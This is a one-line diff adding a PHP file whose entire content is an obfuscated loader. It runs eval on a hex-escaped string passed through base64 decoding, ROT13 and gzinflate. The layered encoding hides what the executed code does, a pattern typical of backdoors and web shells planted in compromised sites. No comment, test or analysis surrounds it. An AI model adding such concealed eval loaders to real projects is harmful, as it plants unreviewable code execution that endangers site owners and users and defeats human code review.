@@ -0,0 +1 @@
+<?php eval(gzinflate(str_rot13(base64_decode("\x4b\x36\x34\x73\x4c\x6c\x62\x4e\x31\x55\x4f\x4a\x61\x6d\x6f\x4e\x69\x55\x6c\x58\x7a\x6c\x70\x45\x69\x74\x57\x30\x42\x67\x41\x3d"))));